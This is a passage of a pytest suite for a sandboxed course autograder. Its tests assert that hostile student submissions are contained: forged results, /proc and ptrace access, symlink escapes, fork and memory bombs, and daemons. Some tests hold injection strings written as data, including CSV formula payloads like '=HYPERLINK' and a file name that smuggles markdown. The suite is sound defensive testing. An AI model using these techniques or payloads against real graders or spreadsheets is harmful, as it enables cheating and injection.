        "report": report,
        "subs": subs,
        "home": home,
        "before": before,
        "after": {
            "repo": snapshot(ROOT, skip),
            "subs": after_subs,
            "venv": site_packages(),
            "tmux": tmux_sessions(socket) if tmux else [],
            "report_at_exit": after_exit,
            "report_later": snapshot(report),
        },
        "tmux": tmux is not None,
        "left": processes_with(TOKEN, str(tmp)),
    }
    for pid in processes_with(TOKEN, str(tmp)):  # only if the grader failed to; a test says so
        os.kill(pid, signal.SIGKILL)
    if tmux:
        subprocess.run(["tmux", "-S", str(socket), "kill-server"], timeout=30)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    with hostile_grading(tmp_path_factory.mktemp("grading")) as run:
        yield run


def exited_0_and_left_nothing_changed_or_running(run: dict) -> None:
    """The checks of every ``hostile_grading`` run, whatever its students did."""
    proc = run["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    before = run["before"]
    after = run["after"]
    assert after["repo"] == before["repo"], "the instructor repository changed"
    assert after["subs"] == before["subs"], "a submission changed"
    assert after["venv"] == before["venv"], "the virtual environment changed"
    assert after["report_later"] == after["report_at_exit"], "the report changed afterwards"
    assert not run["home"].exists(), "$HOME was written"
    assert run["left"] == [], "processes outlived grading"


def read_rows(path: Path) -> dict[str, dict]:
    """scores.csv's rows by student, the name as it is (a cell the grader kept from reading as a
    formula, ``'=...``, without its ``'``)."""
    if not path.is_file():
        return {}
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    unquote = {f"'{start}" for start in FORMULA_START}
    return {r["student"][1:] if r["student"][:2] in unquote else r["student"]: r for r in rows}


def markdown_blocks(text: str) -> list:
    """The block tokens of ``text`` as CommonMark (with GitHub's tables) parses it."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable("table").parse(text)


def feedback(graded, student) -> str:
    return (graded["report"] / student / "feedback.md").read_text(encoding="utf-8")


def item_log(graded, student) -> str:
    return (graded["report"] / student / "logs" / "collectives.tests.log").read_text(
        encoding="utf-8", errors="replace"
    )


def scores_json(graded) -> dict:
    return {
        r["student"]: r
        for r in json.loads((graded["report"] / "scores.json").read_text())["results"]
    }


def report_texts(graded):
    for path, entry in _walk(graded["report"]):
        if entry.is_file(follow_symlinks=False):
            yield path, path.read_bytes().decode("utf-8", "replace")


# ---- the run as a whole, and the accidents
# --------------------------------------------------------------


@pytest.mark.slow
def test_grading_finishes_and_scores_every_student(graded):
    proc = graded["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    expected = {submission.display(p.name) for p in graded["subs"].iterdir()}
    assert set(graded["rows"]) == expected
    for student, row in graded["rows"].items():
        assert row["lab"] == "collectives" and int(row["tests_total"]) >= 16, row
        assert int(row["hidden_total"]) >= 3, row
        folder = next(
            p.name for p in graded["subs"].iterdir() if submission.display(p.name) == student
        )
        assert student == "scores.csv" or (graded["report"] / folder / "feedback.md").exists()


@pytest.mark.slow
def test_reference_code_gets_every_point_and_runs_its_notebook(graded):
    row = graded["rows"]["correct"]
    assert (
        row["tests_passed"] == row["tests_total"] and row["hidden_passed"] == row["hidden_total"]
    ), row
    assert row["notebook_executed"] == "yes" and row["notebook_detail"] == "ok", row
    assert not row["grading_error"], row
    assert "failed" not in feedback(graded, "correct")
    assert (graded["report"] / "correct" / "notebooks" / NOTEBOOK).exists()


@pytest.mark.slow
def test_untouched_stubs_get_no_points_and_say_what_to_write(graded):
    row = graded["rows"]["stubs"]
    assert row["tests_passed"] == "0" and row["notebook_executed"] == "no", row
    assert "NotImplementedError" in row["notebook_detail"]
    text = feedback(graded, "stubs")
    assert "exercise ring_all_reduce is not written yet" in text
    assert "### collectives: hidden checks\n\n0 of 4 passed.\n" in text  # not concealed


@pytest.mark.slow
def test_infinite_loop_costs_the_time_budget_once(graded):
    row = graded["rows"]["infinite_loop"]
    assert row["tests_passed"] == "0" and row["notebook_executed"] == "no", row
    assert row["notebook_detail"].startswith("cell-timeout"), row
    text = feedback(graded, "infinite_loop")
    assert "Timeout (>10.0s)" in text and "earlier tests of this lab timed out" in text
    assert float(row["tests_time_s"]) < 100, (
        "after 2 timeouts the other tests must fail without running"
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    "student, message",
    [("sys_exit", "SystemExit"), ("import_error", "this module is broken on purpose")],
)
def test_exit_or_exception_on_import_gets_no_points(graded, student, message):
    row = graded["rows"][student]
    assert row["tests_passed"] == "0", row
    assert message in feedback(graded, student)


@pytest.mark.slow
def test_edited_tests_config_and_runtime_are_ignored(graded):
    row = graded["rows"]["edits_tests"]
    assert row["tests_passed"] == "0", row
    ignored = feedback(graded, "edits_tests").split("## Files not graded")[1]
    for rel in (
        "tests/test_collectives.py",
        "conftest.py",
        "pytest.ini",
        "hidden_tests/test_collectives_hidden.py",
        "labs/runtime/impl.py",
    ):
        assert f"`{rel}`" in ignored, rel


@pytest.mark.slow
def test_deleting_files_and_leaving_a_daemon_is_contained(graded):
    """Deleting files of the course it is graded in (a test run's course is read-only: nothing
    goes) and leaving a daemon: the daemon is killed, others unaffected."""
    assert graded["left"] == [], "a process the submission started outlived grading"
    assert scores_json(graded)["deletes_and_daemon"]["leftover_processes"] >= 1
    row = graded["rows"]["deletes_and_daemon"]
    assert row["tests_passed"] == row["tests_total"], row
    text = feedback(graded, "deletes_and_daemon")
    assert "process(es) started while grading this lab were still running" in text


@pytest.mark.slow
def test_missing_notebook_costs_the_notebook_only(graded):
    row = graded["rows"]["missing_notebook"]
    assert row["tests_passed"] == row["tests_total"], row
    assert row["notebook_executed"] == "no" and row["notebook_detail"].startswith("missing"), row


@pytest.mark.slow
def test_reports_are_complete_files(graded):
    """scores.csv, scores.json and summary.md are whole (written by rename), nothing temporary is
    left, and summary.md starts with the scorecard (the sandbox was on)."""
    report = graded["report"]
    assert not [p for p in report.iterdir() if p.name.endswith(".tmp")]
    summary = (report / "summary.md").read_text(encoding="utf-8")
    assert summary.startswith("# Scorecard") and NOT_ISOLATED not in summary
    assert json.loads((report / "scores.json").read_text())["isolated"] is True


# ---- hostile submissions
# ----------------------------------------------------------------------------------


@pytest.mark.slow
class TestHostileSubmissions:
    """Each attack of issue 21 (and a few more) against the sandboxed grader. For every one:
    the score it deserves (0: each is built on the stubs), nothing outside its sandbox changed
    (the instructor repository, the other submissions, the virtual environment, $HOME, the report
    after the grader exited), no process left, grader exit 0 (``test_the_grader_...``), and the
    reference code beside them still gets every point
    (``test_reference_code_gets_every_point_and_runs_its_notebook``)."""

    def row(self, graded, student):
        row = graded["rows"][student]
        assert row["tests_passed"] == "0" and row["hidden_passed"] == "0", row
        return row

    def test_the_grader_exits_0_and_leaves_nothing_changed_or_running(self, graded):
        exited_0_and_left_nothing_changed_or_running(graded)

    def test_forging_the_results_channel_and_killing_its_session(self, graded):
        """Its lines reach every descriptor it has, the log among them, never the results
        channel (not inherited): the run's results stand, all failed."""
        row = self.row(graded, "- forger")
        assert not row["grading_error"], row
        assert "ATTACK forge" in item_log(graded, "- forger")

    def test_a_pytest_hook_and_patched_comparisons_stay_in_the_rank(self, graded):
        """The rank's pytest and torch are copies: the test process judges with its own."""
        row = self.row(graded, "hook_forger")
        assert "ATTACK hook registered" in item_log(graded, "hook_forger")
        assert not row["grading_error"], row

    def test_reading_the_answers_through_proc_or_the_editable_install(self, graded):
        self.row(graded, "lecteur réponses ü")
        assert "ATTACK answers None" in item_log(graded, "lecteur réponses ü")

    @pytest.mark.parametrize("student", ["labs_to_solutions", "labs_to_classmate"])
    def test_a_labs_folder_linked_to_the_answers_or_a_classmate(self, graded, student):
        self.row(graded, student)
        text = feedback(graded, student)
        assert "`labs` -> `" in text and "not followed" in text
        if student == "labs_to_solutions":
            assert "points outside your folder" in text
        else:
            summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
            assert "`labs` of `labs_to_classmate` is a symlink into `correct`'s folder" in summary

    def test_writing_outside_its_sandbox(self, graded):
        """The instructor repository, hidden_tests/, $HOME, another student's submission and
        feedback, scores.csv, the virtual environment (a .pth) and the grader's plugin on
        PYTHONPATH: every write is refused, and nothing else changed (first test)."""
        self.row(graded, "vandal")
        log = item_log(graded, "vandal")
        assert "ATTACK vandal WROTE" not in log
        assert log.count("ATTACK vandal blocked") >= 10, log[-3000:]
        for path, text in report_texts(graded):
            assert MARK not in text, path
        assert graded["rows"]["correct"]["tests_passed"] == graded["rows"]["correct"]["tests_total"]
        assert graded["rows"]["stubs"]["tests_passed"] == "0"

    def test_a_fork_hopping_daemon_and_tmux_do_not_escape(self, graded):
        row = self.row(graded, "escaper")
        log = item_log(graded, "escaper")
        assert "ATTACK escape tmux" in log and "TMUX in env: False" in log
        assert graded["left"] == []
        with open(graded["report"] / "scores.csv", encoding="utf-8") as f:
            escaper_rows = [r for r in csv.DictReader(f) if r["student"] == "escaper"]
        assert escaper_rows == [row]
        if graded["tmux"]:
            assert graded["after"]["tmux"] == graded["before"]["tmux"] == ["grading"]

    def test_a_malformed_results_line_cannot_even_be_written(self, graded):
        row = self.row(graded, "malformed-\ufffd")
        assert not row["grading_error"], row
        text = feedback(graded, os.fsdecode(b"malformed-\xff"))
        assert "raised KeyError" in text and "'LABS_GRADE_FD'" in text, "the variable is not there"
        assert (graded["report"] / os.fsdecode(b"malformed-\xff") / "feedback.md").exists()

    def test_a_notebook_that_kills_its_runner(self, graded):
        row = self.row(graded, "runner_killer")
        assert row["notebook_executed"] == "no", row
        assert "without a report" in row["notebook_detail"], row
        executed = graded["report"] / "runner_killer" / "notebooks" / NOTEBOOK
        assert not executed.exists(), "the runner was killed: there is no executed notebook"

    def test_raises_exception_on_every_cell_does_not_make_it_executed(self, graded):
        row = self.row(graded, "all_raises")
        assert row["notebook_executed"] == "no", row
        assert "NotImplementedError" in row["notebook_detail"], row

    def test_a_folder_named_scores_csv(self, graded):
        row = graded["rows"]["scores.csv"]
        assert "grading error" in row["grading_error"] and row["tests_passed"] == "0", row
        assert (graded["report"] / "scores.csv").is_file()

    def test_a_folder_1500_deep(self, graded):
        self.row(graded, "deep")
        assert "more than 32 folders deep" in feedback(graded, "deep")

    @pytest.mark.parametrize(
        "student, limit",
        [
            ("memory_bomb", "memory: more than 1.5 GiB"),
            ("disk_bomb", "disk: more than 128 MiB"),
            ("disk_bomb", "file size: a file over 32 MiB"),
            ("fork_bomb", "processes: more than 128"),
        ],
    )
    def test_bombs_stop_at_a_limit_the_feedback_names(self, graded, student, limit):
        self.row(graded, student)
        assert f"**limit hit**: {limit}" in feedback(graded, student)

    def test_an_output_bomb_is_cut(self, graded):
        row = self.row(graded, "output_bomb")
        assert row["notebook_executed"] == "no", row
        folder = graded["report"] / "output_bomb"
        assert (folder / "logs" / "collectives.tests.log").stat().st_size < 300_000
        assert (folder / "notebooks" / NOTEBOOK).stat().st_size < 3_000_000
        text = feedback(graded, "output_bomb")
        printed = re.search(r"your code printed ([0-9.]+) MB", text)
        assert printed and float(printed.group(1)) >= 30, text
        assert "**limit hit**: notebook output" in text

    # ---- issue 29: each attack as the issue describes it

    def public_passed(self, graded, student) -> int:
        row = graded["rows"][student]
        return int(row["tests_passed"]) - int(row["hidden_passed"])

    def test_a_rank_pickling_code_for_its_parent_gains_nothing(self, graded):
        """The bytes are refused where they arrive (no launcher message): its tests fail."""
        row = self.row(graded, "pickler")
        assert not row["grading_error"], row
        # refused as bytes, before anything in them is looked up (labs.runtime.wire)
        assert "sent a result the launcher refused" in feedback(graded, "pickler")

    def test_a_rank_cannot_use_the_results_descriptor_or_the_check_token(self, graded):
        self.row(graded, "fd_forger")
        assert "ATTACK fd: LABS_GRADE_FD=None token=False" in item_log(graded, "fd_forger")

    def test_a_rank_cannot_reach_its_parents_descriptors_memory_or_ptrace(self, graded):
        self.row(graded, "proc_parent")
        log = item_log(graded, "proc_parent")
        assert "ATTACK proc: reached []" in log, log[-3000:]
        for what in ("/proc/ppid/fd", "/proc/ppid/mem", "ptrace"):
            assert f"ATTACK proc: {what} refused" in log, what

    def test_a_lone_surrogate_in_a_message_is_written_escaped(self, graded):
        proc = graded["proc"]
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        self.row(graded, "zz_surrogate")
        assert "a lone surrogate: \ufffd, and more" in feedback(graded, "zz_surrogate")

    def test_memory_held_in_a_memfd_counts_against_the_limit(self, graded):
        self.row(graded, "memfd")
        held = [
            int(n) for n in re.findall(r"ATTACK memfd held (\d+) MiB", item_log(graded, "memfd"))
        ]
        assert held and max(held) < 1536, f"held {max(held, default=0)} MiB under a 1.5 GiB limit"
        assert "**limit hit**: memory" in feedback(graded, "memfd")

    def test_calling_torchs_collective_scores_no_public_check(self, graded):
        assert self.public_passed(graded, "torch_collective") == 0, graded["rows"][
            "torch_collective"
        ]

    def test_a_notebook_of_empty_cells_costs_the_grader_little(self, graded):
        """The grader's own time for this student, outside its sandboxed items, is no more than
        for the others (give or take 10 s of a busy machine): a limited child refuses the notebook
        before anything runs. (The grader that parsed it itself spent 155 s more.)"""
        row = self.row(graded, "notebook_bomb")
        assert row["notebook_executed"] == "no" and "more than the 2000" in row["notebook_detail"]
        done = dict(re.findall(r"^(.+): done in ([0-9.]+) s$", graded["proc"].stdout, re.M))
        rows = scores_json(graded)
        outside = {
            s: float(t) - rows[s]["tests_time_s"] - rows[s]["notebook_time_s"]
            for s, t in done.items()
            if s in rows
        }
        others = sorted(t for s, t in outside.items() if s != "notebook_bomb")
        typical = others[len(others) // 2]
        assert outside["notebook_bomb"] < typical + 10, (outside["notebook_bomb"], typical)

    def test_outputs_updated_in_place_count_against_the_output_cap(self, graded):
        self.row(graded, "display_updates")
        executed = graded["report"] / "display_updates" / "notebooks" / NOTEBOOK
        assert executed.stat().st_size < 3_000_000
        assert "**limit hit**: notebook output" in feedback(graded, "display_updates")

    def test_a_file_name_holding_markdown_stays_one_inline_name(self, graded):
        """Parsed as CommonMark with tables: no HTML, one heading, one table row per student."""
        self.row(graded, "markdown_name")
        for name in ("summary.md", "markdown_name/feedback.md"):
            text = (graded["report"] / name).read_text(encoding="utf-8")
            tokens = markdown_blocks(text)
            assert not [t for t in tokens if t.type.startswith("html")], name
            assert [t.tag for t in tokens if t.type == "heading_open"].count("h1") == 1, name
            inline = " ".join(t.content for t in tokens if t.type == "inline")
            assert "fake" in inline, f"{name}: the name is not shown"
        summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
        tokens = markdown_blocks(summary)
        grid = tokens[: next(i for i, t in enumerate(tokens) if t.type == "table_close")]
        rows = [t for t in grid if t.type == "tr_open"]  # the scorecard, the summary's first table
        assert len(rows) == 1 + len(graded["rows"]), "a table row more or less than students"
        assert "is a symlink into `correct`'s folder" in summary

    def test_no_scores_csv_cell_starts_a_formula(self, graded):
        with open(graded["report"] / "scores.csv", encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-"]
        assert formulas == []  # (a lone "-", no notebook, is no formula)
        self.row(graded, CSV_NAME)
        assert "'" + CSV_NAME in cells and "'- forger" in cells

    def test_a_flood_of_symlinks_stays_within_the_reports_budget(self, graded):
        self.row(graded, "link_flood")
        report = graded["report"]
        for path in ("link_flood/feedback.md", "summary.md", "scores.json", "scores.csv"):
            assert (report / path).stat().st_size < 1_000_000, path
        assert "more symlinks" in feedback(graded, "link_flood")

    def test_released_cells_replaced_by_pass_count_as_not_run(self, graded):
        row = self.row(graded, "cells_replaced")
        assert row["notebook_executed"] == "no", row
        summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
        line = next(x for x in summary.splitlines() if "cells" in x and "replaced" in x)
        assert " yes" not in line, line
        assert "changed" in feedback(graded, "cells_replaced")

    def test_identical_and_hard_linked_exercise_files_are_flagged(self, graded):
        self.row(graded, "copycat")
        summary = (graded["report"] / "summary.md").read_text(encoding="utf-8")
        assert "`labs/collectives.py` is identical in: `- forger`, `copycat`" in summary
        assert "`labs/collectives.py` is one file hard-linked in: `- forger`, `copycat`" in summary
        assert "`labs/collectives.py` is identical to the reference solution in:" in summary


# ---- the pieces, without running submissions
# -------------------------------------------------------------------------


@pytest.mark.slow
def test_hidden_tests_pass_on_the_solutions_and_fail_on_the_stubs(tmp_path):
    """The honesty rule of tests/test_stubs.py, for the tests students never see."""
    for impl, expect in (("solutions", "passed"), ("labs", "failed")):
        report = tmp_path / f"{impl}.xml"
        run_cli(
            "-m",
            "pytest",
            "-p",
            "no:cacheprovider",
            "-q",
            "--tb=line",  # a line per failure: the outcomes are what this reads
            "-m",
            "exercise",
            "--timeout",
            "120",
            f"--junitxml={report}",
            "hidden_tests",
            env={"LABS_IMPL": impl},
            timeout=900,
        )
        outcomes = junit_outcomes(report)
        assert outcomes, "no hidden test ran"
        for name, outcome in outcomes.items():
            outcome = "failed" if outcome in ("failure", "error") else outcome
            assert outcome == expect, f"LABS_IMPL={impl}: {name} {outcome}"


def test_labs_are_discovered_from_the_course(tmp_path):
    template = tmp_path / "t"
    build_release(template)
    (template / "hidden_tests").mkdir()
    (template / "hidden_tests" / "test_collectives_hidden.py").write_text("")
    (template / "tests" / "test_extra_checks.py").write_text(
        'pytestmark = pytest.mark.exercise\nexercise("collectives")\n'
    )
    labs = {lab.name: lab for lab in discover_labs(template)}
    lab = labs["collectives"]
    assert lab.notebook == NOTEBOOK
    assert lab.test_files == (
        "tests/test_collectives.py",
        "tests/test_extra_checks.py",
        "hidden_tests/test_collectives_hidden.py",
    )
    released = {p.name for p in (template / "notebooks").glob("[0-9][0-9]_*.ipynb")}
    assert {lab.notebook for lab in labs.values()} - {None} == released, (
        "every released notebook is graded"
    )


def test_hidden_tests_share_the_public_pytest_unless_concealed(tmp_path, monkeypatch):
    """Without --conceal-hidden a lab's public and hidden tests run in one pytest (one interpreter
    less per lab), the hidden ones counted apart; with it, the hidden tests run on their own."""
    import types

    import labs.grade as grade
    from labs.grade.processes import Finished
    from labs.grade.results import TestRun

    public, hidden = "tests/test_x.py::test_a", "hidden_tests/test_x_hidden.py::test_b"
    (tmp_path / "hidden").mkdir()
    (tmp_path / "hidden" / "test_x_hidden.py").write_text("")
    runs = []

    def fake_run(session, item, argv_for, **kw):
        layout = types.SimpleNamespace(course="/c")
        runs.append((argv_for(layout), sorted(p.name for p in item.rglob("test_*.py"))))
        return Finished(0, None, False, 1.0, 0, None, b"", False, 0)

    def fake_read(results, graded, token, why, overflow):
        return TestRun(passed=list(graded))

    monkeypatch.setattr(grade, "run_sandboxed", fake_run)
    monkeypatch.setattr(grade, "read_test_run", fake_read)
    monkeypatch.setattr(grade, "_new_item", lambda *a: Path(tempfile.mkdtemp(dir=tmp_path)))
    lab = grade.Lab("x", None, ("tests/test_x.py", "hidden_tests/test_x_hidden.py"), ())
    for conceal, expected_runs in ((False, 1), (True, 2)):
        runs.clear()
        args = types.SimpleNamespace(
            conceal_hidden=conceal,
            no_notebooks=True,
            lab_timeout=100.0,
            test_timeout=10.0,
            max_timeouts=3,
        )
        session = types.SimpleNamespace(
            expected={"x": [public, hidden]},
            args=args,
            hidden=tmp_path / "hidden",
            token="t",
            lock=threading.Lock(),
            quiet=True,
            sandbox=types.SimpleNamespace(
                limits=sandbox.Limits(),
                layout=lambda item: types.SimpleNamespace(course="/c", tools="/t"),
            ),
        )
        student = types.SimpleNamespace(shown="ann", modules={})
        monkeypatch.setattr(grade, "_say", lambda *a: None)
        res = grade._grade_lab(session, student, lab, tmp_path, None)
        assert len(runs) == expected_runs, (runs, res.grading_error)
        assert (res.tests_passed, res.tests_total, res.hidden_passed, res.hidden_total) == (
            2,
            2,
            1,
            1,
        )
        files = [f for argv, _ in runs for f in argv if f.endswith(".py")]
        assert files == ["tests/test_x.py", "hidden_tests/test_x_hidden.py"], files
        copied = [names for _, names in runs]
        # the hidden file reaches only the run that has the hidden tests
        assert copied == ([["test_x_hidden.py"]] if not conceal else [[], ["test_x_hidden.py"]])


def test_feedback_groups_identical_failures_and_can_conceal_hidden_tests():
    r = Result(
        "ann",
        "collectives",
        "00.ipynb",
        tests_total=3,
        hidden_total=1,
        notebook_executed="no",
        notebook_detail="error in cell 3: ValueError: bad",
        failures=[
            ["tests/t.py::a", "NotImplementedError: x"],
            ["tests/t.py::b", "NotImplementedError: x"],
            ["hidden_tests/h.py::secret_name", "AssertionError: secret detail"],
        ],
    )
    page = feedback_page(
        "ann", [r], ["pytest.ini"], {"graded_at": "now", "commit": "abc"}, conceal=True
    )
    assert page.count("NotImplementedError: x") == 1 and "`tests/t.py::a`, `tests/t.py::b`" in page
    assert "secret" not in page and "hidden checks\n\n0 of 1 passed (their names" in page
    assert "ValueError: bad" in page and "`pytest.ini`" in page and "0/3 checks passed" in page


def test_every_string_a_submission_controls_is_escaped_for_its_format():
    assert csv_cell('=HYPERLINK("x","y")') == '\'=HYPERLINK("x","y")'
    assert [csv_cell(x) for x in ("+1", "-1", "@a", "\tx", "ok")] == [
        "'+1",
        "'-1",
        "'@a",
        "\\tx",
        "ok",
    ]
    assert csv_cell("a\udcffb\nc") == "a\ufffdb\\nc"
    name = "x`\n\n| fake |\n# Scorecard\n<!--"
    tokens = markdown_blocks(
        f"* {md_code(name)}\n\n| a |\n|---|\n| {md_code(name, table=True)} |\n"
    )
    assert [t.type for t in tokens if t.type.endswith("_open")] == [
        "bullet_list_open", "list_item_open", "paragraph_open", "table_open", "thead_open",
        "tr_open", "th_open", "tbody_open", "tr_open", "td_open",
    ]  # fmt: skip
    block = md_block("line\n```\n</pre><!--\n```` x")
    assert block[0] == block[-1] == "`````" and markdown_blocks("\n".join(block))[0].type == "fence"


def test_a_lone_surrogate_or_a_flood_cannot_stop_the_reports(tmp_path):
    r = Result("ann\udcff", "collectives", "00.ipynb", failures=[["tests/t.py::a", "bad \udcff"]])
    r.notes = ["x" * 1000] * 2000
    page = feedback_page("ann\udcff", [r], [], {"graded_at": "now", "commit": "\udcff"})
    assert len(page) <= FEEDBACK_LIMIT + 200 and "the grader cut this page" in page
    write_atomic(tmp_path / "feedback.md", page)
    write_reports(tmp_path, [r], {"graded_at": "now", "commit": None}, ["`a` \udcff"])
    assert (
        "bad \ufffd"
        in json.loads((tmp_path / "scores.json").read_text())["results"][0]["failures"][0][1]
    )
    assert "ann\ufffd" in (tmp_path / "summary.md").read_text(encoding="utf-8")


def test_the_guards_lines_are_read_apart_and_say_what_was_refused():
    raw = _stream(GRADED, ["passed", "failed", "passed"])
    guard = json.dumps({"guard": "import of `labs.ddp`", "during": GRADED[1]}).encode()
    lines = raw.split(b"\n")
    run = read_test_run(b"\n".join([lines[0], guard, *lines[1:]]), GRADED, "check_x", "not run")
    assert run.problem is None and run.passed == [GRADED[0], GRADED[2]]
    assert run.guarded == [f"import of `labs.ddp` (during {GRADED[1]})"]
    bad = raw.replace(b'"outcome": "failed"', b'"outcome": "LEAK-subgroup_case"', 1)
    run = read_test_run(bad, GRADED, "check_x", "not run")
    assert "LEAK" not in run.problem and "has an outcome that is none of" in run.problem


def test_the_cores_of_each_job():
    assert cpu_slots(1, [0, 1]) == [{0, 1}]
    assert cpu_slots(2, [0, 1]) == [{0}, {1}]
    assert cpu_slots(2, [0, 1, 2, 3, 4]) == [{0, 1, 2}, {3, 4}]
    assert cpu_slots(3, [0, 1]) == [{0}, {1}, {0}]  # more jobs than cores: shared (warned)


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")
def test_the_seccomp_filter_refuses_what_it_says(tmp_path):
    program = sandbox.seccomp_filter(("sched_setaffinity", "memfd_create", "shmget"))
    if program is None:
        pytest.skip("no seccomp program for this architecture")
    read_end, write_end = os.pipe()
    os.write(write_end, program)
    os.close(write_end)
    code = (
        "import ctypes, os\n"
        "for f, a in ((os.sched_setaffinity, (0, {0})), (os.memfd_create, ('x',))):\n"
        "    try:\n        f(*a); print('allowed')\n"
        "    except OSError as e:\n        print(e.errno)\n"
        "print(ctypes.CDLL(None, use_errno=True).shmget(0, 4096, 0o1600), ctypes.get_errno())\n"
        "print(os.getpid() > 0)\n"
    )
    argv = ["bwrap", "--unshare-all", "--unshare-user", "--ro-bind", "/", "/", "--dev", "/dev"]
    proc = subprocess.run(
        [*argv, "--seccomp", str(read_end), sys.executable, "-I", "-S", "-c", code],
        pass_fds=(read_end,),
        capture_output=True,
        text=True,
        timeout=60,
    )
    os.close(read_end)
    assert proc.stdout.split() == ["1", "1", "-1", "1", "True"], proc.stderr


def _record(nodeid, when, outcome="passed", message=""):
    record = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": message}
    return json.dumps({**record, "duration": 0.1}) + "\n"


def _stream(tests, outcomes, cut=""):
    """A results channel as the plugin writes it: the tests of ``GRADED`` collected, then
    ``tests`` run with ``outcomes[i]`` in their call, each followed by its check, failing."""
    lines = [json.dumps({"collected": interleave(GRADED, "check_x")}) + "\n"]
    for i, (nodeid, outcome) in enumerate(zip(tests, outcomes)):
        for test, result in ((nodeid, outcome), (check_id(nodeid, "check_x", i), "failed")):
            lines += [_record(test, "setup"), _record(test, "call", result, "boom")]
            lines += [_record(test, "teardown")]
    return ("".join(lines) + cut).encode()


GRADED = ["tests/t.py::a", "tests/t.py::TestB::b[x::y]", "tests/u.py::c"]


def test_an_honest_results_channel_is_read_test_by_test():
    assert check_id(GRADED[1], "check_x", 1) == "tests/t.py::TestB::check_x_1"
    raw = _stream(GRADED, ["passed", "failed", "passed"])
    run = read_test_run(raw, GRADED, "check_x", "not run")
    assert run.problem is None and run.passed == [GRADED[0], GRADED[2]]
    assert run.failed == {GRADED[1]: "boom"}
    cut = _stream(GRADED[:2], ["passed", "passed"], cut='{"nodeid": "tests/u.py::c')
    run = read_test_run(cut, GRADED, "check_x", "not run: killed")
    assert run.problem is None and run.passed == GRADED[:2]
    assert run.failed == {GRADED[2]: "not run: killed"}


@pytest.mark.parametrize(
    "tamper, why",
    [
        (lambda raw: raw + _record(GRADED[0], "call").encode(), "comes after the last"),
        (lambda raw: raw.replace(b'"outcome": "failed"', b'"outcome": "passed"'), "check"),
        (lambda raw: raw.replace(b', "outcome": "passed"', b"", 1), "not a test report"),
        (lambda raw: raw.replace(b"\n", b"\nnot json\n", 2), "is not JSON"),
        (lambda raw: b'{"collected": []}\n' + raw, "collected other tests"),
    ],
)
def test_a_tampered_results_channel_counts_nothing(tamper, why):
    raw = tamper(_stream(GRADED, ["passed", "passed", "passed"]))
    run = read_test_run(raw, GRADED, "check_x", "not run")
    assert run.passed == [] and why in run.problem
    assert all(message.startswith("not counted") for message in run.failed.values())


def test_a_test_passed_before_a_run_ends_counts_only_once_its_check_failed():
    raw = _stream(GRADED[:1], ["passed"])
    raw += (_record(GRADED[1], "setup") + _record(GRADED[1], "call")).encode()
    raw += _record(GRADED[1], "teardown").encode()
    run = read_test_run(raw, GRADED, "check_x", "not run")
    assert run.passed == GRADED[:1]
    assert "before the grader's check" in run.failed[GRADED[1]]


def _released_notebook() -> dict:
    nb = nbformat.v4.new_notebook()
    for i, source in enumerate(["a = 1", "raise ValueError('allowed')", "b = a + 1"]):
        cell = nbformat.v4.new_code_cell(source)
        cell["id"] = f"cell{i}"
        nb.cells.append(cell)
    nb.cells[1].metadata["tags"] = ["raises-exception"]
    return json.loads(nbformat.writes(nb))


def test_a_notebook_runs_with_the_releases_tags_matched_by_cell_id():
    released = _released_notebook()
    mine = nbformat.from_dict(released)
    mine.cells[0].metadata["tags"] = ["raises-exception"]  # a tag the student added: ignored
    mine.cells[1].metadata["tags"] = []  # a tag the student removed: restored
    mine.cells[2].source = "b = a + 1  # mine\n"  # a comment and a newline: the same code
    extra = nbformat.v4.new_code_cell("print('mine')")
    extra.metadata["tags"] = ["raises-exception", "skip-execution"]
    mine.cells.insert(1, extra)
    prepared, nb = notebooks.prepare(nbformat.writes(mine).encode(), released)
    assert prepared.problems == [] and prepared.changed == 0
    tags = [c["metadata"].get("tags", []) for c in nb["cells"]]
    assert tags == [[], [], ["raises-exception"], []]
    nbformat.validate(nbformat.from_dict(nb))  # what the runner reads
    ran = {"cell": 3, "ran": {0: True, 1: True, 2: False, 3: True}, "malformed": None}
    report = {**ran, "end": {"end": "ok", "ename": "", "evalue": "", "cut": 0}}
    assert notebooks.judge(prepared, report) == (True, "ok")
    report["ran"][3] = False  # a cell the release does not allow to raise
    assert notebooks.judge(prepared, report)[0] is False


def test_a_notebook_missing_a_released_cell_or_not_a_notebook():
    released = _released_notebook()
    mine = nbformat.from_dict(released)
    del mine.cells[2]
    prepared, _ = notebooks.prepare(nbformat.writes(mine).encode(), released)
    assert prepared.problems == [
        "cell 3 (`b = a + 1`) of the course's notebook is not in yours (cells are matched by id)"
    ]
    for junk in (b"{not json", b"\xff\xfe", b"[" * 100_000, b'{"cells": [1]}'):
        prepared, nb = notebooks.prepare(junk, released)
        assert nb is None and not prepared.runnable
        assert prepared.problems[0].startswith("the notebook cannot be parsed")
    report, _ = notebooks.read_report(b'{"cell": 0}\n{"end": "ok"\n')
    assert report["malformed"] == "line 2"


def test_a_released_cell_replaced_by_pass_is_changed_so_the_notebook_did_not_run():
    released = _released_notebook()
    mine = nbformat.from_dict(released)
    mine.cells[2].source = "pass"
    prepared, nb = notebooks.prepare(nbformat.writes(mine).encode(), released)
    assert prepared.changed == 1 and prepared.runnable
    assert prepared.problems == [
        "cell 3 (`b = a + 1`) of the course's notebook was changed in yours: the course's cells "
        "must run as released (your own code goes in cells of your own)"
    ]
    ran = {"cell": 2, "ran": {0: True, 1: False, 2: True}, "malformed": None}
    report = {**ran, "end": {"end": "ok", "ename": "", "evalue": "", "cut": 0}}
    assert notebooks.judge(prepared, report)[0] is False


def test_a_huge_notebook_is_refused_by_a_limited_child_in_little_time(tmp_path):
